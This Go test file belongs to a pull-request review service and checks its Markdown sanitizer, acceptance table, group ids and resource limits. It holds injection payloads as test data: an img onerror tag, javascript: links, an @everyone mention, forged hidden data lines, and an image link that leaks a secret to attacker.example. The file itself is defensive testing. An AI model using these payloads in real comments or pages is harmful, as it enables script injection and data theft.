package main

// The classes of the second hardening round on the comment writers and
// review groups: the sanitizer on nested Markdown, the acceptance table,
// caller-supplied group ids and labels, and grouping a change whose files
// share names. Each prints what it cost: time, peak RSS, and what left the
// process (the answer's size, and whether active markup or a hidden data
// line was in it).

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"regexp"
	"strings"
	"time"

	"github.com/prscout/prscout/bitbucket/bitbuckettest"
)

// activeMarkup lists the active Markdown kinds found in s (see
// markdownInjection): an empty list is an inert text.
func activeMarkup(s string) []string {
	var active []string
	for name, re := range map[string]*regexp.Regexp{
		"<img tag":             regexp.MustCompile(`<img`),
		"javascript: link":     regexp.MustCompile(`\]\(javascript:`),
		"image":                regexp.MustCompile(`!\[[^\]]*\]\(`),
		"link to another host": regexp.MustCompile(`\]\(https://attacker\.example`),
		"mention outside code": regexp.MustCompile("(^|[^`])@everyone"),
	} {
		if re.MatchString(s) {
			active = append(active, name)
		}
	}
	return active
}

// dataLineRe is a hidden review-data line (marker.ParseFindingData).
var dataLineRe = regexp.MustCompile(`(?m)^\s{0,3}\[prscout-f:[0-9a-f]{16}\]:`)

// changedFiles asks /v1/context for the feature branch's files.
func changedFiles(fx fixture) json.RawMessage {
	ctx := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA}, 60*time.Second)
	var c struct {
		Files json.RawMessage `json:"files"`
	}
	_ = json.Unmarshal(ctx.body, &c)
	return c.Files
}

// sanitizerNesting: a model summary of 64 KiB of nested images and links
// (and a finding body of unclosed openers) is sanitized at once, the
// summary stays within 2.5x its input plus a constant, nothing active.
func sanitizerNesting(srv *proc, fx fixture) {
	files := changedFiles(fx)
	depth := 64 << 10 / 40
	summary := strings.Repeat("![", depth) + "a" + strings.Repeat("](https://attacker.example/p.png)", depth)
	links := strings.Repeat("[", depth) + "a" + strings.Repeat("](javascript:alert(1))", depth)
	body := strings.Repeat("[![", 64<<10/3)
	review, _ := json.Marshal(map[string]any{"summary": summary + "\n\n" + links,
		"findings": []any{map[string]any{"path": "a.go", "line": 3, "severity": "high", "title": "t", "body": body}}})
	in := len(summary) + len(links) + len(body)
	stop := peakRSS(srv.cmd.Process.Pid)
	a := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "review": string(review), "dryRun": true}, 120*time.Second)
	peak := stop()
	var res struct {
		Markdown string `json:"markdown"`
		Inline   []struct {
			Body string `json:"body"`
		} `json:"inline"`
	}
	_ = json.Unmarshal(a.body, &res)
	out := len(res.Markdown)
	for _, c := range res.Inline {
		out += len(c.Body)
	}
	active := activeMarkup(res.Markdown)
	held := a.code == 200 && quick(a) && a.dur < 2*time.Second && out <= 5*in/2+4096 && len(active) == 0 && srv.alive()
	report(held, "sanitizer-nesting", "comments dry-run of %d KB nested images, links and openers: %s, %d KB of Markdown out (bound 2.5x+4 KB), active markup %q, peak RSS %d MB",
		in>>10, a, out>>10, active, peak)
}

// criteriaTable: Jira criteria and the model's verdict notes carrying
// HTML, an image, a javascript: link and a mass mention reach the
// acceptance table inert.
func criteriaTable(srv *proc, fx fixture) {
	files := changedFiles(fx)
	payload := `<img src=x onerror=alert(1)> ![p](https://attacker.example/leak?d=SECRET) [go](javascript:alert(1)) [x](https://attacker.example/) @everyone`
	review, _ := json.Marshal(map[string]any{"summary": "ok", "findings": []any{},
		"requirements": []any{map[string]any{"id": "SHOP-1#1", "verdict": "met", "note": "note " + payload}}})
	a := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "review": string(review), "dryRun": true,
		"requirements": []any{map[string]any{"id": "SHOP-1#1", "text": "criterion " + payload}}}, 60*time.Second)
	var res struct {
		Markdown string `json:"markdown"`
	}
	_ = json.Unmarshal(a.body, &res)
	table := res.Markdown
	if i := strings.Index(table, "### Acceptance criteria"); i >= 0 {
		table = table[i:]
	} else {
		table = ""
	}
	active := activeMarkup(table)
	report(a.code == 200 && table != "" && strings.Contains(table, "criterion") && len(active) == 0, "criteria-table-markup",
		"comments dry-run, criterion text and verdict note with HTML, image, javascript: link, @everyone: %s, table %d bytes, active markup %q", a, len(table), active)
}

// groupIDs: a group id carrying a hidden data line is refused (400 naming
// reviews[1].group); a group label and a file path carrying one reach the
// summary without becoming a data line.
func groupIDs(srv *proc, fx fixture) {
	files := changedFiles(fx)
	planted := `[prscout-f:0123456789abcdef]: # "v=1 s=open c=77 l=1 t=1a2b3c4d p=a.go"`
	ok := map[string]any{"summary": "fine", "findings": []any{}}
	a := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "dryRun": true,
		"reviews": []any{map[string]any{"group": "g1", "review": ok}, map[string]any{"group": "g2\n" + planted, "review": ok}}}, 60*time.Second)
	m := a.json()
	refused := a.code == 400 && m["field"] == "reviews[1].group"

	var fl []map[string]any
	_ = json.Unmarshal(files, &fl)
	b := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "dryRun": true,
		"groups": []any{
			map[string]any{"id": "g1", "files": fl},
			map[string]any{"id": "g2", "part": map[string]any{"label": "part\n" + planted + "\n![p](https://attacker.example/p)"},
				"files": []any{map[string]any{"path": "b.go\n" + planted, "status": "modified"}}},
		},
		"reviews": []any{map[string]any{"group": "g1", "review": ok}, map[string]any{"group": "g2", "review": map[string]any{"error": map[string]any{"message": "500 - \"boom\""}}}}}, 60*time.Second)
	var res struct {
		Markdown string `json:"markdown"`
	}
	_ = json.Unmarshal(b.body, &res)
	planted2 := dataLineRe.MatchString(res.Markdown)
	active := activeMarkup(res.Markdown)
	report(refused && b.code == 200 && strings.Contains(res.Markdown, "Not reviewed") && !planted2 && len(active) == 0, "group-id-data-line",
		"group id with a data line: %s field=%v; label and path with one in a failed group: %s, data line in the summary: %v, active markup %q",
		a, m["field"], b, planted2, active)
}

// memoryUnreviewed: on a fake Bitbucket, a full review posts a finding; a
// later push rewrites its line, but that push's review is unreadable, cut
// off, or its group's review failed. No thread may be resolved.
func memoryUnreviewed(bin, work string) {
	fake := bitbuckettest.NewServer()
	defer fake.Close()
	h1, h2 := strings.Repeat("1", 40), strings.Repeat("2", 40)
	fake.AddCommit("acme", "app", h1)
	fake.AddCommit("acme", "app", h2, h1)
	p := bbServer(bin, fake, filepath.Join(work, "memory-mirror"), "")
	defer p.stop()
	full := "diff --git a/a.go b/a.go\nnew file mode 100644\n--- /dev/null\n+++ b/a.go\n@@ -0,0 +1,3 @@\n+package a\n+\n+func A() { x := load(); use(x) }\n"
	delta := "diff --git a/a.go b/a.go\n--- a/a.go\n+++ b/a.go\n@@ -1,3 +1,3 @@\n package a\n \n-func A() { x := load(); use(x) }\n+func A() { x, err := load(); use(x, err) }\n"
	finding := map[string]any{"path": "a.go", "line": 3, "existingCode": "func A() { x := load(); use(x) }", "severity": "high", "title": "load error ignored", "body": "Check it."}
	first, _ := json.Marshal(map[string]any{"summary": "one finding", "findings": []any{finding}})
	cut := string(first[:len(first)-30])
	files := []any{map[string]any{"path": "a.go", "status": "modified", "diff": delta}}
	start := time.Now()
	stop := peakRSS(p.cmd.Process.Pid)
	var got []string
	held := true
	posted, resolved := 0, 0
	for i, tc := range []struct {
		name string
		body map[string]any
	}{
		{"unreadable", map[string]any{"review": "{{{{ not json ]]]"}},
		{"cut off", map[string]any{"review": cut}},
		{"failed group", map[string]any{"groups": []any{map[string]any{"id": "g1", "files": files}},
			"reviews": []any{map[string]any{"group": "g1", "review": map[string]any{"error": map[string]any{"message": "timeout of 600000ms exceeded"}}}}}},
	} {
		// Each case on its own pull request: a first full review at h1
		// posts the finding, then the push to h2.
		pr := i + 1
		fake.AddPullRequest("acme", "app", bitbuckettest.PullRequest{ID: pr, Title: "abuse", SourceCommit: h2, DestinationCommit: h1})
		a := callOn(p, "POST", "/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "prId": pr, "ref": h1, "mode": "full",
			"files": []any{map[string]any{"path": "a.go", "status": "added", "diff": full}}, "review": string(first)})
		inline := 0
		for _, c := range fake.Comments("acme", "app", pr) {
			if c.Path != "" {
				inline++
			}
		}
		posted += inline
		held = held && a.code == 200 && inline == 1
		req := map[string]any{"workspace": "acme", "repoSlug": "app", "prId": pr, "ref": h2, "mode": "delta", "files": files}
		for k, v := range tc.body {
			req[k] = v
		}
		r := callOn(p, "POST", "/v1/comments", req)
		var res struct {
			Memory struct {
				Entries []struct{ Title, State string } `json:"entries"`
			} `json:"memory"`
		}
		_ = json.Unmarshal(r.body, &res)
		state := "-"
		for _, e := range res.Memory.Entries {
			if e.Title == "load error ignored" {
				state = e.State
			}
		}
		got = append(got, fmt.Sprintf("%s: %s, state %s", tc.name, r, state))
		held = held && r.code == 200 && state == "unreviewed"
		for _, c := range fake.Comments("acme", "app", pr) {
			if c.Resolved {
				resolved++
			}
		}
	}
	peak := stop()
	calls := fake.Calls(bitbuckettest.OpResolveComment)
	report(held && resolved == 0 && calls == 0 && p.alive(), "memory-unreviewed",
		"in %s: %d finding(s) posted by first reviews; later pushes %s; threads resolved %d (%d resolve calls to Bitbucket); peak RSS %d MB",
		round(time.Since(start)), posted, strings.Join(got, "; "), resolved, calls, peak)
}

// sharedNames: /v1/context on a branch of 5,000 files in 50 directories,
// every file using the same 100 names, each declared by 4 of the files:
// the review groups are planned in bounded time and memory.
func sharedNames(srv *proc, fx fixture) {
	const n, names = 5000, 100
	dir := fx.dir
	git(dir, "checkout", "-q", "-b", "shared-names", fx.mainSHA)
	var uses strings.Builder
	for k := range names {
		fmt.Fprintf(&uses, "\tx%d := Shared%03d(y)\n", k, k)
	}
	for i := range n {
		var b strings.Builder
		fmt.Fprintf(&b, "package p%02d\n\n", i%50)
		if i < names*4 {
			fmt.Fprintf(&b, "func Shared%03d(y int) int { return y }\n\n", i/4)
		}
		fmt.Fprintf(&b, "func F%05d(y int) {\n%s}\n", i, uses.String())
		write(filepath.Join(dir, "shared", fmt.Sprintf("p%02d", i%50), fmt.Sprintf("f%05d.go", i)), b.String())
	}
	git(dir, "add", "-A")
	git(dir, "commit", "-q", "-m", "shared names")
	head := git(dir, "rev-parse", "HEAD")
	git(dir, "checkout", "-q", "feature")

	stop := peakRSS(srv.cmd.Process.Pid)
	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": head}, 120*time.Second)
	peak := stop()
	var res struct {
		Groups []json.RawMessage `json:"groups"`
		Files  []json.RawMessage `json:"files"`
	}
	_ = json.Unmarshal(a.body, &res)
	// The planning itself is bounded (pipeline/groups); most of the peak is
	// the context's reading and candidates of 5,000 files (a 12 MB diff).
	held := a.code == 200 && a.dur < 5*time.Second && len(res.Groups) > 1 && peak <= 300 && srv.alive()
	report(held, "groups-shared-names", "context of %d files sharing %d names: %s, %d groups, %d MB answer, peak RSS %d MB (at most 300)",
		n, names, a, len(res.Groups), len(a.body)>>20, peak)
}

// candidatesBudget: /v1/context on a change to a TypeScript method whose
// repository holds two files of 40,000 one-line calls of it and a 1.4 MB
// comment-only tsconfig.json: answered within the candidates budget.
func candidatesBudget(srv *proc, fx fixture) {
	dir := fx.dir
	git(dir, "checkout", "-q", "-b", "candidates-pathological", fx.mainSHA)
	store := "export class Store {\n  persist(s: string): string {\n    return s;\n  }\n}\n"
	members := "import { Store } from './store';\nconst st = new Store();\n" + strings.Repeat("st.persist('a');\n", 40_000)
	write(filepath.Join(dir, "web", "store.ts"), store)
	write(filepath.Join(dir, "web", "use.ts"), members)
	write(filepath.Join(dir, "web", "use2.ts"), members)
	write(filepath.Join(dir, "tsconfig.json"), strings.Repeat("/* a comment */\n", 90_000)+"{}\n")
	git(dir, "add", "-A")
	git(dir, "commit", "-q", "-m", "pathological sources")
	base := git(dir, "rev-parse", "HEAD")
	write(filepath.Join(dir, "web", "store.ts"), strings.Replace(store, "return s;", "return s.trim();", 1))
	git(dir, "commit", "-q", "-am", "change persist")
	head := git(dir, "rev-parse", "HEAD")
	git(dir, "checkout", "-q", "feature")

	before := rssKB(srv.cmd.Process.Pid) / 1024
	stop := peakRSS(srv.cmd.Process.Pid)
	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": base, "head": head}, 60*time.Second)
	peak := stop()
	found := strings.Contains(string(a.body), "web/use.ts")
	report(a.code == 200 && a.dur < 6*time.Second && peak-before < *maxRSSMB && srv.alive(), "candidates-budget",
		"context of a method change with 2 x 40,000 member calls and a 1.4 MB comment-only tsconfig.json: %s, callers listed: %v, RSS %d MB before, peak %d MB", a, found, before, peak)
}
